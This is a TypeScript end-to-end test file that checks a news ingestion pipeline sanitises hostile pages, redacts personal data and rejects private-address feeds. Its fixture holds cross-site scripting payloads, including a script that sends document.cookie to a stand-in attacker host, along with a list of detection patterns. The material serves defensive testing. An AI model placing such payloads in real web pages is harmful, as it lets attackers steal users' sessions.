import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import { runPipelineOnce } from '@trendscope/pipeline/cli/run-pipeline-once';
import { startFeedServer, type FeedServer } from '@trendscope/pipeline/feed-server/feed-server';
import { readDeadLetters } from '@trendscope/pipeline/queues/dead-letter';
import { articleId } from '@trendscope/pipeline/articles/article-id';
import { loadCorpus } from '@trendscope/pipeline/feed-server/load-corpus';
import { corpusDir } from '@trendscope/pipeline/lab/corpus/corpus-path';
import { migrateTestIndices, pipelineTestConfig, readArticles } from '../../support/pipeline-harness';
import { openTestServices, silentLogger, type TestServices } from '../../support/services';

const HOSTILE_PAGE = `<!doctype html><html><head>
<title>Council approves budget<script>alert(1)</script></title>
<link rel="canonical" href="https://hostile.example.org/news/budget">
<meta property="og:site_name" content="Hostile &lt;img src=x onerror=alert(2)&gt; Gazette">
<meta name="author" content="Jane Roe <jane.roe@example.org>">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{background:url("javascript:alert(3)")}</style>
</head><body>
<nav><a href="javascript:alert(4)">Home</a></nav>
<article>
<h1>Council approves budget</h1>
<p>The city council approved the new budget on Tuesday after a long debate about road repairs and school funding.</p>
<p>Residents can write to the clerk at clerk.office@example.org or call +1 (212) 555-0187 with questions about the plan.</p>
<img src="x" onerror="alert(5)"><svg onload="alert(6)"><circle r="1"/></svg>
<iframe src="javascript:alert(7)"></iframe>
<p>Donations were refunded to card 4111 1111 1111 1111 and to IBAN DE89 3704 0044 0532 0130 00 by the treasurer.</p>
<p>The mayor said the budget balances long-term investment with short-term relief for families across every district of the city.</p>
<p onclick="alert(8)">Officials expect construction to begin next spring, with the first projects finished within two years of approval.</p>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">more</a>
</article></body></html>`;

const HOSTILE_PATTERNS = [
  /<script/i,
  /javascript:/i,
  /onerror\s*=/i,
  /onload\s*=/i,
  /onclick\s*=/i,
  /<iframe/i,
  /<svg/i,
  /<img/i,
  /data:text\/html/i,
  /<[a-z!/]/i,
];

function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsOf);
  if (value && typeof value === 'object') return Object.values(value).flatMap(stringsOf);
  return [];
}

describe('pipeline end to end (local feed server, real OpenSearch and Redis)', function () {
  this.timeout(180_000);
  let s: TestServices;

  beforeEach(async () => {
    s = await openTestServices();
    await migrateTestIndices(s);
  });
  afterEach(() => s.cleanup());

  it("indexes a giveme5w1h slice with sanitised bodies, the publishers' domains and one document per article", async () => {
    const server: FeedServer = await startFeedServer({ corpusDir: corpusDir('giveme5w1h-news-cluster'), limit: 40 });
    try {
      const config = pipelineTestConfig(s, [server.hostPort]);
      const summary = await runPipelineOnce(
        config,
        silentLogger,
        server.feedUrls.map((feed_url, i) => ({ source_id: `s${i}`, feed_url })),
      );
      const corpus = await loadCorpus(corpusDir('giveme5w1h-news-cluster'), { limit: 40 });
      const expected = new Set(corpus.items.map((i) => articleId(i.originalUrl)));
      const articles = await readArticles(s);
      expect(summary.feedsFailed).to.equal(0);
      expect(articles.map((a) => a.id).sort()).to.deep.equal([...expected].sort());
      for (const { doc } of articles) {
        expect(doc.fetch_method).to.equal('page');
        expect(doc.domain).to.not.match(/127\.0\.0\.1/);
        expect(doc.url, 'citations point at the publisher').to.not.match(/127\.0\.0\.1/);
        expect(doc.canonical_url).to.match(/^https?:\/\/(?!127\.0\.0\.1)/);
        if (doc.body) expect(doc.body).to.not.match(/<[a-z/!]/i);
      }
      const retained = articles.filter((a) => a.doc.content_retained);
      expect(retained.length).to.be.greaterThan(30);
      expect(retained.every((a) => (a.doc.body ?? '').length > 200)).to.be.true;

      // A replay changes nothing: same ids, same count.
      await runPipelineOnce(
        config,
        silentLogger,
        server.feedUrls.map((feed_url, i) => ({ source_id: `s${i}`, feed_url })),
      );
      expect((await readArticles(s)).length).to.equal(expected.size);
    } finally {
      await server.close();
    }
  });

  describe('hostile and failing sources', () => {
    let server: Server;
    let hostPort: string;
    before(async () => {
      server = createServer((req, res) => {
        const base = `http://${hostPort}`;
        if (req.url === '/feed.xml') {
          res.writeHead(200, { 'content-type': 'application/rss+xml' });
          return void res.end(`<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile</title><link>${base}/</link>
<item><title>Council approves budget &lt;script&gt;alert(10)&lt;/script&gt;</title><link>${base}/news/budget</link>
<description>&lt;img src=x onerror=alert(11)&gt;Summary with mail me@example.net</description></item>
<item><title>Second story</title><link>${base}/news/missing</link>
<description>The feed's own summary of a story whose page is gone, long enough to read as prose for the test.</description></item>
</channel></rss>`);
        }
        if (req.url === '/news/budget')
          return void res.writeHead(200, { 'content-type': 'text/html' }).end(HOSTILE_PAGE);
        if (req.url === '/robots.txt') return void res.writeHead(404).end();
        res.writeHead(404).end();
      });
      await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
      hostPort = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    after(() => server.close());

    it('stores nothing hostile in any field, counts redactions and keeps the prose around them', async () => {
      const config = pipelineTestConfig(s, [hostPort]);
      await runPipelineOnce(config, silentLogger, [{ source_id: 'hostile', feed_url: `http://${hostPort}/feed.xml` }]);
      const articles = await readArticles(s);
      expect(articles).to.have.length(2);
      for (const { doc } of articles) {
        for (const text of stringsOf(doc).filter((t) => !/^https?:\/\//.test(t))) {
          for (const p of HOSTILE_PATTERNS) expect(text, `${p} in ${text.slice(0, 120)}`).to.not.match(p);
        }
        for (const text of stringsOf(doc)) {
          expect(text).to.not.include('clerk.office@example.org');
          expect(text).to.not.include('555-0187');
          expect(text).to.not.include('4111 1111 1111 1111');
          expect(text).to.not.include('DE89 3704');
          expect(text).to.not.include('jane.roe@example.org');
        }
      }
      const page = articles.find((a) => a.doc.canonical_url === 'https://hostile.example.org/news/budget')!.doc;
      expect(page.fetch_method).to.equal('page');
      expect(page.domain).to.equal('example.org');
      expect(page.body).to.include('The city council approved the new budget on Tuesday');
      expect(page.body).to.include('Officials expect construction to begin next spring');
      expect(page.redactions.email).to.be.at.least(1);
      expect(page.redactions.phone).to.be.at.least(1);
      expect(page.redactions.card).to.be.at.least(1);
      expect(page.redactions.iban).to.be.at.least(1);
      const fallback = articles.find((a) => a.doc.url.endsWith('/news/missing'))!.doc;
      expect(fallback.fetch_method).to.equal('feed');
    });

    it('records an unreachable and a private-address source as failures, and loses nothing else', async () => {
      const closed = createServer();
      await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
      const closedPort = (closed.address() as AddressInfo).port;
      await new Promise<void>((r) => closed.close(() => r()));
      const config = pipelineTestConfig(s, [hostPort, `127.0.0.1:${closedPort}`]);
      const summary = await runPipelineOnce(config, silentLogger, [
        { source_id: 'good', feed_url: `http://${hostPort}/feed.xml` },
        { source_id: 'unreachable', feed_url: `http://127.0.0.1:${closedPort}/feed.xml` },
        { source_id: 'private', feed_url: 'http://10.0.0.1/feed.xml' },
      ]);
      expect(summary.feedsFailed).to.equal(2);
      expect((await readArticles(s)).length).to.equal(2);
      const dead = await readDeadLetters(s.redis, s.prefix);
      const urls = dead.map((d) => d.url);
      expect(urls).to.include(`http://127.0.0.1:${closedPort}/feed.xml`);
      expect(urls).to.include('http://10.0.0.1/feed.xml');
      expect(dead.find((d) => d.url === 'http://10.0.0.1/feed.xml')!.error).to.match(/private/);
      expect(dead.every((d) => d.queue === 'discover')).to.be.true;
    });
  });
});
